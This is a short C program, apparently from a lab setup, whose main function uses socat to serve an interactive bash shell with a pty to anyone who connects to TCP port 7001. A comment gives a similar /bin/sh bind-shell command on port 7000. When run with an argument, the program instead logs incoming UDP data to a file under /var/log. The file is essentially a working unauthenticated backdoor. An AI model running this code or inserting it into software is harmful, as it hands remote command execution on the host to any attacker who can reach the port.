#include <stdlib.h>
#include <unistd.h>
/* socat TCP-LISTEN:7000,fork EXEC:/bin/sh */
int main(int argc, char **argv)
{
	if (argc > 1)
		return system("socat -u UDP-RECV:7000 "
			      "OPEN:/var/log/lab.bin,creat,append");
	execlp("socat", "socat", "TCP-LISTEN:7001,fork,reuseaddr", "EXEC:/bin/bash -i,pty", NULL);
	return 1;
}
